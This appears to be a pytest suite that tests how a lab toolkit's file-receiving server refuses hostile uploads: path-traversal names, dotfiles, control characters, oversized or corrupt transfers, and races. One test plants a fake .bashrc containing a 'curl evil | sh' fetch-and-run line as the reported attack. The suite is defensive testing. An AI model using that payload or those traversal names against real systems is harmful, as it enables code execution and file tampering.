"""Receiving files with `labkit serve`, tried the way a client would try it: a raw socket on
loopback writing crafted frames (the 32-byte header of toolkit/wire.py, built here with
struct, then a JSON hello and file-data frames), against a real `labkit serve` subprocess
started in a folder of its own, as a student would start it in their home directory.

What must hold: without --receive-dir nothing is received; with it, nothing outside that
folder is touched, nothing in it is replaced, names are plain, sizes stay within what was
announced and within --limit, and no temporary file outlives a failed transfer."""

from __future__ import annotations

import hashlib
import json
import os
import socket
import struct
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from conftest import REPO

PY = [sys.executable, "-m", "toolkit.cli"]
LIMIT = 64 << 10
HEADER = struct.Struct("!4sBBHIQqI")        # magic, version, kind, reserved, flow, seq, ns, len
KIND_FILE, KIND_CONTROL = 3, 4
BASHRC = b"# the student's own shell setup\nalias ll='ls -l'\n"


# ---- a client written from the wire format, not from the toolkit's sender ----

def frame(kind: int, body: bytes, seq: int = 0, flow: int = 7, length: int | None = None):
    n = len(body) if length is None else length
    return HEADER.pack(b"LBK1", 1, kind, 0, flow, seq, time.time_ns(), n) + body


def file_hello(name, size=None, content: bytes = b"", sha256=None, **extra) -> bytes:
    meta = {"name": name, "size": len(content) if size is None else size,
            "sha256": hashlib.sha256(content).hexdigest() if sha256 is None else sha256}
    msg = {"type": "hello", "version": 1, "proto": "tcp", "mode": "file", "flow": 7,
           "file": meta, **extra}
    return frame(KIND_CONTROL, json.dumps(msg).encode())


def file_data(content: bytes, chunk: int = 16 << 10) -> bytes:
    return b"".join(frame(KIND_FILE, content[i:i + chunk], seq=n)
                    for n, i in enumerate(range(0, len(content), chunk)))


def messages(raw: bytes) -> list[dict]:
    """The control messages in what the server sent back."""
    out, pos = [], 0
    while pos + HEADER.size <= len(raw):
        magic, _, kind, _, _, _, _, n = HEADER.unpack_from(raw, pos)
        assert magic == b"LBK1"
        body = raw[pos + HEADER.size:pos + HEADER.size + n]
        if kind == KIND_CONTROL:
            out.append(json.loads(body))
        pos += HEADER.size + n
    return out


def exchange(port: int, *parts: bytes, pause: float = 0.0) -> list[dict]:
    """Connect, send the parts (pausing between them), half-close, read until the server
    closes (or resets): the server's control messages."""
    s = socket.create_connection(("127.0.0.1", port), timeout=10)
    got = bytearray()
    try:
        try:
            for part in parts:
                s.sendall(part)
                time.sleep(pause)
            s.shutdown(socket.SHUT_WR)
        except OSError:
            pass                        # the server refused and closed before all was sent
        while True:
            try:
                chunk = s.recv(65536)
            except ConnectionResetError:
                break
            if not chunk:
                break
            got += chunk
    finally:
        s.close()
    return messages(bytes(got))


def error_of(said: list[dict]) -> str:
    errors = [m["error"] for m in said if m["type"] == "error"]
    assert errors, f"expected an error message, got {said}"
    return errors[0]


def listing(folder: Path) -> dict[str, bytes | str]:
    """Every entry of a folder, hidden ones too, with its bytes (or where a link points)."""
    out = {}
    for p in sorted(folder.iterdir()):
        try:
            out[p.name] = os.readlink(p) if p.is_symlink() else (
                p.read_bytes() if p.is_file() else "dir")
        except FileNotFoundError:       # a temporary file removed as we looked
            pass
    return out


def wait_for(pred, timeout: float = 10.0) -> bool:
    end = time.monotonic() + timeout
    while time.monotonic() < end:
        if pred():
            return True
        time.sleep(0.02)
    return pred()


# ---- a real server ----

class Served:
    """`labkit serve` in a subprocess, in folder `cwd`, on 127.0.0.1 (port chosen by the
    kernel); its log lines are collected as they come."""

    def __init__(self, cwd: Path, *args: str):
        env = {**os.environ, "PYTHONPATH": str(REPO)}
        self.proc = subprocess.Popen([*PY, "serve", "-B", "127.0.0.1", "-p", "0", *args],
                                     cwd=cwd, env=env, stdout=subprocess.PIPE,
                                     stderr=subprocess.PIPE, text=True)
        line = self.proc.stdout.readline()
        assert "listening" in line, line + self.proc.stderr.read()
        self.port = int(line.split("port")[1].split()[0])
        self.lines: list[str] = []
        self._pump = threading.Thread(target=self._read, daemon=True)
        self._pump.start()

    def _read(self) -> None:
        for line in self.proc.stdout:
            self.lines.append(line)

    def log(self) -> str:
        return "".join(self.lines)

    def logged(self, *words: str) -> bool:
        return wait_for(lambda: any(all(w in line for w in words) for line in self.lines))

    def stop(self) -> None:
        self.proc.terminate()
        try:
            self.proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            self.proc.kill()
            self.proc.wait()
        self._pump.join(timeout=5)


@pytest.fixture(scope="module")
def home(tmp_path_factory) -> Path:
    """The folder the server is started in: the student's home, with a .bashrc."""
    home = tmp_path_factory.mktemp("home")
    (home / ".bashrc").write_bytes(BASHRC)
    (home / "notes.txt").write_bytes(b"lecture notes\n")
    return home


@pytest.fixture(scope="module")
def plain(home):
    """A server started the old way: no --receive-dir."""
    srv = Served(home)
    yield srv
    srv.stop()


@pytest.fixture(scope="module")
def inbox(home, tmp_path_factory) -> Path:
    box = tmp_path_factory.mktemp("inbox")
    (box / "existing.txt").write_bytes(b"precious, never to be replaced\n")
    os.symlink(home / ".bashrc", box / "link.txt")                 # points out of the box
    os.symlink(home / "created-through-a-link", box / "dangling.txt")
    return box


@pytest.fixture(scope="module")
def receiving(home, inbox):
    srv = Served(home, "--receive-dir", str(inbox), "--limit", str(LIMIT))
    yield srv
    srv.stop()


def _cli_send(port: int, cwd: Path, *args: str, timeout: float = 60):
    env = {**os.environ, "PYTHONPATH": str(REPO)}
    return subprocess.run([*PY, "send", "127.0.0.1", "-p", str(port), "-q", *args], cwd=cwd,
                          env=env, capture_output=True, text=True, timeout=timeout)


# ---- without --receive-dir: refused ----

@pytest.mark.parametrize("name", ["fresh.txt", ".bashrc", "notes.txt"])
def test_without_receive_dir_a_file_is_refused_and_nothing_is_written(plain, home, name):
    before = listing(home)
    content = b"whatever the client wants to plant\n"
    said = exchange(plain.port, file_hello(name, content=content), file_data(content))
    why = error_of(said)
    assert "does not receive files" in why and "--receive-dir" in why, why
    assert not any(m["type"] == "ready" for m in said)
    assert listing(home) == before                  # nothing new, nothing changed
    assert plain.logged("client error", "mode=file", "does not receive files")


def test_the_reported_attack_is_refused_with_a_clear_message(plain, receiving, home,
                                                             tmp_path):
    # the issue as reported: `labkit send HOST --mode file --file .bashrc` from elsewhere
    (tmp_path / ".bashrc").write_bytes(b"curl evil | sh\n")
    done = _cli_send(plain.port, tmp_path, "--mode", "file", "--file", ".bashrc")
    assert done.returncode == 1, done
    assert "refused the file" in done.stderr and "does not receive files" in done.stderr
    assert "Traceback" not in done.stderr
    # and a server that does receive files refuses the hidden name
    done = _cli_send(receiving.port, tmp_path, "--mode", "file", "--file", ".bashrc")
    assert done.returncode == 1 and "starts with a dot" in done.stderr, done.stderr
    assert (home / ".bashrc").read_bytes() == BASHRC


# ---- with --receive-dir: the rules ----

@pytest.mark.parametrize("name,words", [
    ("existing.txt", "already in the receiving folder"),
    ("link.txt", "already in the receiving folder"),          # a link is not followed
    ("dangling.txt", "already in the receiving folder"),      # nor created through
])
def test_an_existing_name_is_never_replaced(receiving, inbox, home, name, words):
    before, home_before = listing(inbox), listing(home)
    content = b"replacement\n"
    said = exchange(receiving.port, file_hello(name, content=content), file_data(content))
    assert words in error_of(said)
    assert listing(inbox) == before and listing(home) == home_before
    assert (inbox / "existing.txt").read_bytes() == b"precious, never to be replaced\n"


def test_an_existing_name_is_refused_to_the_cli_sender_too(receiving, inbox, tmp_path):
    (tmp_path / "existing.txt").write_bytes(b"new version\n")
    done = _cli_send(receiving.port, tmp_path, "--file", "existing.txt")
    assert done.returncode == 1 and "already in the receiving folder" in done.stderr, done
    assert (inbox / "existing.txt").read_bytes() == b"precious, never to be replaced\n"


@pytest.mark.parametrize("name,words", [
    (".bashrc", "starts with a dot"),
    (".", "starts with a dot"),
    ("..", "starts with a dot"),
    ("../x", "starts with a dot"),
    ("a/b", "path separator"),
    ("/etc/passwd", "path separator"),
    ("a\\b", "path separator"),
    ("x\x00y", "control character U+0000"),
    ("x\ny", "control character U+000A"),
    ("\x1b]0;title\x07", "control character U+001B"),
    ("txt.\u202eexe", "control character U+202E"),            # right-to-left override
    ("x" * 300, "300 bytes is too long"),
    ("\u00e9" * 128, "256 bytes is too long"),                  # 128 characters, 256 bytes
    ("", "file name is empty"),
    (5, "is not a string"),
])
def test_names_that_are_not_plain_file_names_are_refused(receiving, inbox, home, name, words):
    before, home_before = listing(inbox), listing(home)
    content = b"x"
    said = exchange(receiving.port, file_hello(name, content=content), file_data(content))
    why = error_of(said)
    assert words in why, why
    assert "\x1b" not in why and "\x00" not in why        # escaped in what comes back
    assert listing(inbox) == before and listing(home) == home_before


@pytest.mark.parametrize("size,words", [
    (LIMIT + 1, f"exceeds the server's limit of {LIMIT} bytes"),
    (1 << 62, "exceeds the server's limit"),
    (-1, "not a whole number of bytes"),
    ("12", "not a whole number of bytes"),
    (1.5, "not a whole number of bytes"),
])
def test_a_size_beyond_the_limit_is_refused_before_any_file_appears(receiving, inbox, size,
                                                                    words):
    before = listing(inbox)
    # the hello alone: the refusal answers it, before a single data byte is sent
    said = exchange(receiving.port, file_hello("big.bin", size=size))
    assert words in error_of(said)
    assert listing(inbox) == before
    assert receiving.logged("client error", words)


def test_a_digest_that_is_not_sha256_is_refused(receiving, inbox):
    before = listing(inbox)
    said = exchange(receiving.port, file_hello("d.txt", size=1, sha256="../../etc"))
    assert "not 64 hex digits" in error_of(said)
    assert listing(inbox) == before


@pytest.mark.parametrize("announced,frames", [
    (10, [b"0123456789abcdefghij"]),                 # one frame past the size
    (10, [b"01234567", b"89abcdef"]),                # the second frame goes past it
    (10, [b"0123456789", b"x"]),                     # one byte too many, in a frame of its own
])
def test_more_bytes_than_announced_are_refused_and_leave_nothing(receiving, inbox,
                                                                 announced, frames):
    before = listing(inbox)
    content = b"".join(frames)[:announced]
    data = b"".join(frame(KIND_FILE, f, seq=i) for i, f in enumerate(frames))
    said = exchange(receiving.port, file_hello("long.bin", size=announced, content=content),
                    data)
    assert "beyond the announced size" in error_of(said)
    assert not any(m["type"] == "file" for m in said)
    assert listing(inbox) == before


def test_a_length_field_beyond_the_limit_is_refused_before_it_is_buffered(receiving, inbox):
    before = listing(inbox)
    said = exchange(receiving.port, file_hello("huge.bin", size=100, content=bytes(100)),
                    frame(KIND_FILE, b"", length=1 << 30))
    assert "beyond the announced size" in error_of(said)
    assert listing(inbox) == before


@pytest.mark.parametrize("sent,sha,words", [
    (b"hello", "0" * 64, "SHA-256 mismatch"),
    (b"hel", None, "got 3 of 5 bytes"),
])
def test_a_short_or_corrupt_file_is_not_stored(receiving, inbox, sent, sha, words):
    before = listing(inbox)
    said = exchange(receiving.port,
                    file_hello("short.txt", size=5, content=b"hello", sha256=sha),
                    file_data(sent))
    verdict = [m for m in said if m["type"] == "file"]
    assert verdict and verdict[0]["ok"] is False and words in verdict[0]["error"], said
    assert listing(inbox) == before
    assert receiving.logged("refused:", words)


def test_other_frames_in_a_file_transfer_are_refused(receiving, inbox):
    before = listing(inbox)
    said = exchange(receiving.port, file_hello("k.txt", content=b"abc"),
                    frame(0, b"abc"))
    assert "expects file data" in error_of(said)
    assert listing(inbox) == before


def test_a_client_that_resets_mid_transfer_leaves_nothing(receiving, inbox):
    before = listing(inbox)
    content = os.urandom(40_000)
    s = socket.create_connection(("127.0.0.1", receiving.port), timeout=10)
    s.sendall(file_hello("reset.bin", content=content) + file_data(content[:20_000]))
    assert messages(s.recv(65536))[0]["type"] == "ready"
    # the temporary file exists while the transfer is under way ...
    assert wait_for(lambda: any(n.endswith(".part") for n in listing(inbox)))
    s.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    s.close()                                         # RST
    # ... and is gone once the server has seen the reset
    assert wait_for(lambda: listing(inbox) == before), listing(inbox)


def test_a_correct_transfer_is_stored_with_mode_0600(receiving, inbox, home):
    home_before = listing(home)
    content = os.urandom(50_000)
    name = "r\u00e9sum\u00e9 2024.pdf"
    said = exchange(receiving.port, file_hello(name, content=content), file_data(content))
    assert said[0] == {"type": "ready", "name": name, "size": len(content)}
    verdict = next(m for m in said if m["type"] == "file")
    assert verdict == {"type": "file", "ok": True, "name": name, "bytes": len(content),
                       "sha256": hashlib.sha256(content).hexdigest()}
    got = inbox / name
    assert got.read_bytes() == content
    assert got.stat().st_mode & 0o7777 == 0o600
    assert not any(n.endswith(".part") for n in listing(inbox))
    assert listing(home) == home_before
    assert receiving.logged("client half-close", "stored")
    # the same name again: refused, the first one kept
    said = exchange(receiving.port, file_hello(name, content=b"other"), file_data(b"other"))
    assert "already in the receiving folder" in error_of(said)
    assert got.read_bytes() == content


def test_an_empty_file_and_a_file_of_exactly_the_limit(receiving, inbox):
    for name, content in (("empty", b""), ("full.bin", os.urandom(LIMIT))):
        said = exchange(receiving.port, file_hello(name, content=content), file_data(content))
        assert next(m for m in said if m["type"] == "file")["ok"] is True, said
        assert (inbox / name).read_bytes() == content


def test_two_clients_racing_for_one_name_store_one_file(receiving, inbox):
    name = "race.txt"
    contents = [b"first\n" * 100, b"second\n" * 100]
    socks = [socket.create_connection(("127.0.0.1", receiving.port), timeout=10)
             for _ in contents]
    try:
        for s, c in zip(socks, contents):
            s.sendall(file_hello(name, content=c))
        for s in socks:                    # both accepted: the name was free for both
            assert messages(s.recv(65536))[0]["type"] == "ready"
        for s, c in zip(socks, contents):
            s.sendall(file_data(c))
            s.shutdown(socket.SHUT_WR)
        verdicts = []
        for s in socks:
            raw = bytearray()
            while chunk := s.recv(65536):
                raw += chunk
            verdicts.append(next(m for m in messages(bytes(raw)) if m["type"] == "file"))
    finally:
        for s in socks:
            s.close()
    assert sorted(v["ok"] for v in verdicts) == [False, True], verdicts
    loser = next(v for v in verdicts if not v["ok"])
    assert "appeared in the receiving folder meanwhile" in loser["error"]
    winner = contents[[v["ok"] for v in verdicts].index(True)]
    assert (inbox / name).read_bytes() == winner
    assert not any(n.endswith(".part") for n in listing(inbox))


def test_the_cli_sender_stores_a_file_and_exits_0(receiving, inbox, tmp_path):
    content = os.urandom(30_000)
    (tmp_path / "payload.bin").write_bytes(content)
    done = _cli_send(receiving.port, tmp_path, "--file", "payload.bin")
    assert done.returncode == 0, done.stderr
    assert (inbox / "payload.bin").read_bytes() == content
    assert (inbox / "payload.bin").stat().st_mode & 0o777 == 0o600
    # above the server's --limit: refused before a byte is sent, and said so
    (tmp_path / "big.bin").write_bytes(bytes(LIMIT + 1))
    done = _cli_send(receiving.port, tmp_path, "--file", "big.bin")
    assert done.returncode == 1 and "exceeds the server's limit" in done.stderr, done.stderr
    assert not (inbox / "big.bin").exists()


@pytest.mark.parametrize("model", ["iterative", "thread", "process", "selectors", "asyncio"])
def test_every_model_refuses_and_receives_alike(model, tmp_path):
    (tmp_path / "home").mkdir()
    (tmp_path / "box").mkdir()
    (tmp_path / "src").mkdir()
    (tmp_path / "src" / "a.txt").write_bytes(b"alpha\n")
    (tmp_path / "src" / ".hidden").write_bytes(b"beta\n")
    plain = Served(tmp_path / "home", "--model", model)
    try:
        srv = Served(tmp_path / "home", "--model", model, "--receive-dir", str(tmp_path / "box"))
    except BaseException:
        plain.stop()
        raise
    try:
        done = _cli_send(plain.port, tmp_path / "src", "--file", "a.txt")
        assert done.returncode == 1 and "does not receive files" in done.stderr, done.stderr
        done = _cli_send(srv.port, tmp_path / "src", "--file", ".hidden")
        assert done.returncode == 1 and "starts with a dot" in done.stderr, done.stderr
        done = _cli_send(srv.port, tmp_path / "src", "--file", "a.txt")
        assert done.returncode == 0, done.stderr
        assert plain.logged("client error", "does not receive files")
        assert srv.logged("client error", "starts with a dot")
    finally:
        plain.stop()
        srv.stop()
    assert listing(tmp_path / "home") == {}
    assert listing(tmp_path / "box") == {"a.txt": b"alpha\n"}


def test_serve_help_says_how_files_are_received():
    done = subprocess.run([*PY, "serve", "--help"], cwd=REPO, capture_output=True, text=True,
                          timeout=60)
    assert "--receive-dir DIR" in done.stdout and "never replaced" in done.stdout
    assert "--out-dir" in done.stdout                  # the old name, same meaning
